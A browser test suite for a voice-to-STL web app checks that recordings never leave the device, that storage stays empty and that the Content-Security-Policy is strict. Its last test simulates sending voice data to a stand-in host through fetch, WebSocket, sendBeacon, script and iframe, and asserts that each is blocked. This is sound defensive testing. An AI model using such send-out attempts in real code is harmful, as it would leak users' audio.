import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hasWebBrowser, openWebPage, type WebPage } from "./open-web-page.js";
import { recordedSeconds } from "./recorded-seconds.js";

const OTHER = join(import.meta.dirname, "../../fixtures/voices/child.wav");
const scene = (page: Page, name: string) => page.locator(`.room[data-scene="${name}"]`).waitFor();

/** The browser itself looks for a newer version of the page now and then; no page can stop it. */
const fromPage = (requests: readonly string[]) => requests.filter((request) => !request.endsWith("/service-worker.js"));

describe.skipIf(!hasWebBrowser)("the voice stays on the device", () => {
  let web: WebPage;

  beforeAll(async () => {
    web = await openWebPage({ microphone: "calm-deep", repeat: true, webGL: false });
    await web.page.locator("html[data-offline=kept]").waitFor({ state: "attached" });
  });

  afterAll(() => web?.close());

  it("asks nobody for anything after it was loaded: recording, cutting, explaining, comparing, saving", async () => {
    const { page, server } = web;
    const loaded = server.requests.length;
    expect(server.requests.every((request) => request.startsWith(web.address))).toBe(true);

    await page.getByRole("button", { name: "Record your voice" }).click();
    await scene(page, "ready");
    await page.getByRole("button", { name: "Begin", exact: true }).click();
    await scene(page, "recording");
    await recordedSeconds(page, 3);
    await page.getByRole("button", { name: "Finish" }).click();
    await scene(page, "stone");
    await page.locator(".explanation [data-trait=color]").waitFor();

    const saving = page.waitForEvent("download");
    await page.getByRole("button", { name: /^Save STL/ }).click();
    expect((await saving).suggestedFilename()).toMatch(/^vocalith-[\w-]{9}\.stl$/);

    await page.locator("section[aria-labelledby=pair-heading] input[type=file]").setInputFiles(OTHER);
    await page.getByRole("heading", { name: "This voice, as a stone" }).waitFor();
    await page.getByRole("button", { name: "See both side by side" }).click();
    await page.locator(".pair-verdict").waitFor();
    await page.getByRole("button", { name: "Close" }).click();

    expect(fromPage(server.requests.slice(loaded))).toEqual([]);
    expect(web.faults).toEqual([]);
  });

  it("keeps no voice: storage holds at most a language, and there are neither databases nor cookies", async () => {
    const { page, server } = web;
    const stored = await page.evaluate(async () => ({
      local: { ...localStorage },
      session: { ...sessionStorage },
      cookies: document.cookie,
      databases: (await indexedDB.databases()).map(({ name }) => name),
      kept: (
        await Promise.all(
          (await caches.keys()).map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => url)),
        )
      ).flat(),
    }));
    expect(Object.keys(stored.local).filter((key) => key !== "vocalith-language")).toEqual([]);
    expect(stored).toMatchObject({ session: {}, cookies: "", databases: [] });
    // What is kept are the page's own files alone.
    for (const url of stored.kept) {
      const path = new URL(url).pathname.slice(1);
      expect(() => readFileSync(join(server.folder, path)), url).not.toThrow();
    }
  });

  it("states a policy that allows nothing but the page's own files", () => {
    const html = readFileSync(join(web.server.folder, "index.html"), "utf8");
    const policy = /http-equiv="Content-Security-Policy"\s+content="([^"]*)"/.exec(html)?.[1] ?? "";
    const directives = new Map(
      policy.split(";").map((directive) => {
        const [name = "", ...sources] = directive.trim().split(/\s+/);
        return [name, sources];
      }),
    );
    expect(directives.get("default-src")).toEqual(["'none'"]);
    expect(directives.get("connect-src")).toEqual(["'self'"]);
    expect(directives.get("script-src")).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(directives.get("form-action")).toEqual(["'none'"]);
    expect(directives.get("base-uri")).toEqual(["'none'"]);
    for (const [name, sources] of directives) {
      for (const source of sources) {
        expect(["'none'", "'self'", "'wasm-unsafe-eval'", "blob:", "data:"], name).toContain(source);
      }
    }
  });

  it("is refused by the browser whatever it would send elsewhere, and by whatever way", async () => {
    const { page, server } = web;
    const before = server.requests.length;
    const refused = await page.evaluate(async () => {
      const elsewhere = "https://example.com/voice";
      const directives: string[] = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        directives.push(effectiveDirective);
      });
      const outcome = async (way: () => unknown) => {
        try {
          return (await way()) === false ? "refused" : "done";
        } catch {
          return "refused";
        }
      };
      const loaded = (element: HTMLElement) =>
        new Promise((resolve, reject) => {
          element.onload = resolve;
          element.onerror = reject;
          document.head.append(element);
        });
      const outcomes = {
        fetch: await outcome(() => fetch(elsewhere, { method: "POST", body: "voice", mode: "no-cors" })),
        socket: await outcome(
          () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket("wss://example.com/voice");
              socket.onopen = resolve;
              socket.onerror = reject;
            }),
        ),
        image: await outcome(() => loaded(Object.assign(new Image(), { src: elsewhere }))),
        script: await outcome(() => loaded(Object.assign(document.createElement("script"), { src: elsewhere }))),
        frame: await outcome(async () => {
          const frame = Object.assign(document.createElement("iframe"), { src: "https://frame.example.org/" });
          document.body.append(frame);
          await new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
          const isThere = frame.contentDocument !== null;
          frame.remove();
          return isThere;
        }),
        evaluation: await outcome(() => new Function("return true")()),
      };
      navigator.sendBeacon(elsewhere, "voice");
      await outcome(() => fetch("./icon.svg"));
      return { outcomes, directives };
    });
    expect(refused.outcomes).toEqual({
      fetch: "refused",
      socket: "refused",
      image: "refused",
      script: "refused",
      frame: "refused",
      evaluation: "refused",
    });
    expect(refused.directives).toContain("connect-src");
    // For a frame Chromium opens a connection before it reads the policy, and then sends nothing through it; for all else there is not even that.
    const tried = server.requests.slice(before).filter((request) => !request.startsWith(web.address));
    expect(tried.filter((request) => request !== "connect://frame.example.org:443")).toEqual([]);
  });
});
